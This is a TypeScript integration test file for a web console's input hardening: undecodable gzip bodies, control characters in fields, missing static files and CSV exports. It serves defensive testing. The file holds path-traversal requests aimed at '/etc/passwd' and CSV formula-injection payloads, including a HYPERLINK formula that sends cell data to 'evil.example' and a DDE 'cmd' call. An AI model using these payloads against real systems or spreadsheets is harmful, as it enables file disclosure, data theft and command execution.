// What an outside attack found at the edge (issue 13, observations 6–8): no 500 and no error log for
// a body that does not decode or a static file that is not there; control characters (NUL first)
// refused with 400 naming the field on every input path, on both engines; CSV cells that a
// spreadsheet would run as formulas neutralised.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import type { AddressInfo } from 'node:net';
import type { Server as HttpServer } from 'node:http';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createApp } from '../../server/app.ts';
import { loadConfig } from '../../server/config.ts';
import { countRows, insertAccount, insertCountry, insertPlan } from '../support/fixtures.ts';
import { serviceToken } from '../support/ledger.ts';
import { startTestServer, type SessionFetch } from '../support/server.ts';

type Server = Awaited<ReturnType<typeof startTestServer>>;
let server: Server;
let support: SessionFetch;
let catalog: SessionFetch;
let token: string;

beforeAll(async () => {
  server = await startTestServer();
  support = await server.login('support');
  catalog = await server.login('catalog');
  token = await serviceToken(server.db);
  await insertCountry(server.db, 'FR', { name: 'France' });
});
afterAll(async () => {
  await server?.close();
});

const integration = (p: string, body: BodyInit, headers: Record<string, string> = {}) =>
  fetch(`${server.baseUrl}/api/integration/${p}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', ...headers },
    body,
  });
const NOTICE = {
  category: 'STATEMENT_CATEGORY_ILLEGAL_OR_HARMFUL_SPEECH',
  explanation: 'This review falsely accuses a named manager of fraud: defamation.',
  locations: ['https://forum.example/thread/9'],
  notifierName: 'Jeanne Martin',
  notifierEmail: 'jeanne.edge@example.org',
  goodFaith: true,
};

async function expectError(res: Response, status: number, code: string) {
  const text = await res.text();
  expect(res.status, text).toBe(status);
  const body = JSON.parse(text) as { code: string; message: string; errors?: Record<string, string> };
  expect(body.code).toBe(code);
  return body;
}

describe('a body whose Content-Encoding does not decode: 400, on every JSON route', () => {
  const notGzip = { 'content-encoding': 'gzip' };
  const garbage = 'this is not gzip at all';
  test.each([
    [
      'sign-in',
      () =>
        fetch(`${server.baseUrl}/api/auth/login`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', 'x-kolet-csrf': '1', ...notGzip },
          body: garbage,
        }),
    ],
    ['a resource', () => catalog('/api/countries', { method: 'POST', headers: notGzip, body: garbage })],
    ['an action', () => support('/api/messages/1/retry', { method: 'POST', headers: notGzip, body: garbage })],
    ['the integration API', () => integration('accounts', garbage, notGzip)],
    [
      'the public notice intake',
      () =>
        fetch(`${server.baseUrl}/public/dsa-notices`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', ...notGzip },
          body: garbage,
        }),
    ],
  ])('%s', async (_name, call) => {
    const body = await expectError(await call(), 400, 'undecodable_body');
    expect(body.message).toMatch(/Content-Encoding/);
  });

  test('a body that really is gzip is read as usual', async () => {
    const res = await integration('accounts', gzipSync(JSON.stringify({ email: `gzip-${Date.now()}@example.com` })), {
      'content-encoding': 'gzip',
    });
    expect(res.status).toBe(201);
  });
});

describe('control characters are refused with 400 naming the field, and nothing is stored', () => {
  const nul = 'a\u0000b@example.com';

  test('the integration API: an account e-mail with NUL', async () => {
    const before = await countRows(server.db, 'accounts');
    const body = await expectError(await integration('accounts', JSON.stringify({ email: nul })), 400, 'invalid_input');
    expect(body.errors).toEqual({ email: 'must not contain NUL characters' });
    expect(await countRows(server.db, 'accounts')).toBe(before);
  });

  test('a staff action: a reason with a NUL or an escape character', async () => {
    const accountId = await insertAccount(server.db);
    for (const reason of ['closing\u0000 on request', 'closing \u001b[31m on request']) {
      const body = await expectError(
        await support(`/api/accounts/${accountId}/deactivate`, { method: 'POST', body: JSON.stringify({ reason }) }),
        400,
        'invalid_input',
      );
      expect(Object.keys(body.errors!)).toEqual(['reason']);
    }
    expect((await server.db('accounts').where({ id: accountId }).first('status')).status).toBe('active');
  });

  test('the resource router: nested values and field names', async () => {
    const body = await expectError(
      await catalog('/api/countries', { method: 'POST', body: JSON.stringify({ id: 'DE', operators: ['Telekom', 'O2\u0007'] }) }),
      400,
      'invalid_input',
    );
    expect(body.errors).toEqual({ 'operators.1': 'must not contain control characters' });
    const key = await expectError(
      await catalog('/api/countries', { method: 'POST', body: JSON.stringify({ id: 'DE', 'na\u0000me': 'x' }) }),
      400,
      'invalid_input',
    );
    expect(Object.keys(key.errors!)).toEqual(['na?me']);
    expect(await countRows(server.db, 'countries', { code: 'DE' })).toBe(0);
  });

  test('a query string: a list filter and the search box', async () => {
    expect(
      (await expectError(await support(`/api/accounts?range=%5B0,9%5D&sort=%5B%22id%22,%22ASC%22%5D%00`), 400, 'invalid_input')).errors,
    ).toEqual({ sort: 'must not contain NUL characters' });
    // Inside the filter's JSON a NUL is an escape (\u0000), refused by the list query's own check.
    expect((await support(`/api/accounts?filter=${encodeURIComponent(JSON.stringify({ email: 'a\u0000' }))}`)).status).toBe(400);
    const search = await expectError(await support('/api/accounts/search?q=ab%00cd'), 400, 'invalid_input');
    expect(search.errors).toEqual({ q: 'must not contain NUL characters' });
  });

  test('sign-in', async () => {
    const res = await fetch(`${server.baseUrl}/api/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-kolet-csrf': '1' },
      body: JSON.stringify({ email: nul, password: 'whatever it is' }),
    });
    expect((await expectError(res, 400, 'invalid_input')).errors).toEqual({ email: 'must not contain NUL characters' });
  });

  test('the public notice intake (JSON) and its HTML form', async () => {
    const before = await countRows(server.db, 'dsa_notices');
    const res = await fetch(`${server.baseUrl}/public/dsa-notices`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ ...NOTICE, notifierName: 'Jeanne\u0000Martin' }),
    });
    expect((await expectError(res, 400, 'invalid_input')).errors).toEqual({ notifierName: 'must not contain NUL characters' });
    const form = await fetch(`${server.baseUrl}/report-illegal-content?lang=en`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      redirect: 'manual',
      body: new URLSearchParams({
        category: NOTICE.category,
        explanation: NOTICE.explanation,
        locations: NOTICE.locations[0]!,
        notifierName: 'Jeanne\u0000',
        notifierEmail: NOTICE.notifierEmail,
        goodFaith: 'yes',
      }),
    });
    expect(form.status).toBe(400);
    expect(await form.text()).toContain('notifierName');
    expect(await countRows(server.db, 'dsa_notices')).toBe(before);
  });

  test('multi-line text keeps its tabs and line breaks', async () => {
    const accountId = await insertAccount(server.db);
    const res = await support(`/api/accounts/${accountId}/deactivate`, {
      method: 'POST',
      body: JSON.stringify({ reason: 'Asked by e-mail:\r\n\t"please close my account"' }),
    });
    expect(res.status).toBe(200);
  });
});

describe('static files that are not there: 404, never a 500, and no error logged', () => {
  let app: HttpServer;
  let base: string;
  const logged: { level: number; msg: string }[] = [];
  const spaDir = fs.mkdtempSync(path.join(os.tmpdir(), 'kolet-spa-'));

  beforeAll(async () => {
    fs.mkdirSync(path.join(spaDir, 'assets'));
    fs.writeFileSync(path.join(spaDir, 'index.html'), '<!doctype html><title>console</title>');
    fs.writeFileSync(path.join(spaDir, 'assets', 'app.js'), 'console.log(1)');
    const sink = new Writable({
      write(chunk, _enc, done) {
        for (const line of String(chunk).split('\n').filter(Boolean)) logged.push(JSON.parse(line));
        done();
      },
    });
    const logger = pino({ level: 'info' }, sink);
    const e = createApp(server.db, { ...loadConfig({ NODE_ENV: 'test' }), logLevel: 'info' }, logger, { staticDir: spaDir });
    app = await new Promise((resolve) => {
      const s = e.listen(0, '127.0.0.1', () => resolve(s));
    });
    base = `http://127.0.0.1:${(app.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await new Promise<void>((r) => app.close(() => r()));
    fs.rmSync(spaDir, { recursive: true, force: true });
  });

  test.each([
    '/public/assets/missing.css',
    '/public/assets/..%2f..%2fpackage.json',
    '/public/assets/..%2fpublicApi.ts',
    '/public/assets/%2e%2e/%2e%2e/package.json',
    '/assets/missing.js',
    '/assets/..%2f..%2fpackage.json',
    '/assets/..%2f..%2f..%2f..%2fetc%2fpasswd',
    '/favicon.ico',
  ])('%s is 404', async (p) => {
    const res = await fetch(`${base}${p}`);
    expect(res.status).toBe(404);
    expect(await res.text()).not.toMatch(/at .+:\d+:\d+|node_modules/);
  });

  test("files that are there are served, and the console's routes get its page", async () => {
    expect((await fetch(`${base}/public/assets/public.css`)).status).toBe(200);
    expect((await fetch(`${base}/assets/app.js`)).status).toBe(200);
    const page = await fetch(`${base}/accounts/12/show`);
    expect(page.status).toBe(200);
    expect(await page.text()).toContain('<title>console</title>');
  });

  test('none of it logged an error', () => {
    expect(logged.length).toBeGreaterThan(0);
    expect(logged.filter((l) => l.level >= 50)).toEqual([]);
  });
});

describe('CSV exports: a cell a spreadsheet would run as a formula is neutralised (OWASP)', () => {
  test('the plans CSV: =HYPERLINK(…) and friends are exported as text, and import back unchanged', async () => {
    const evil = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];
    for (const name of evil) await insertPlan(server.db, { country_code: 'FR', region_name: null, name });
    const res = await catalog('/api/countries/FR/plans.csv');
    expect(res.status).toBe(200);
    const csv = await res.text();
    const { parse } = await import('csv-parse/sync');
    const rows = parse(csv, { columns: true }) as { id: string; name: string }[];
    for (const name of evil) expect(rows.find((r) => r.name.slice(1) === name)?.name).toBe(`'${name}`);
    for (const r of rows) expect(r.name).not.toMatch(/^[=+\-@\t\r]/);

    const dryRun = await catalog('/api/countries/FR/plans-import', { method: 'POST', body: JSON.stringify({ csv, dryRun: true }) });
    expect(dryRun.status).toBe(200);
    const report = (await dryRun.json()) as { created: unknown[]; errors: unknown[]; updated: { changes: { name?: [string, string] } }[] };
    expect(report.created).toEqual([]);
    expect(report.errors).toEqual([]);
    // The import trims each cell, so only the names that began with a tab or a carriage return come back changed.
    expect(report.updated.map((u) => u.changes.name)).toEqual([
      ['\t=1+1', '=1+1'],
      ['\r=1+1', '=1+1'],
    ]);
  });
});
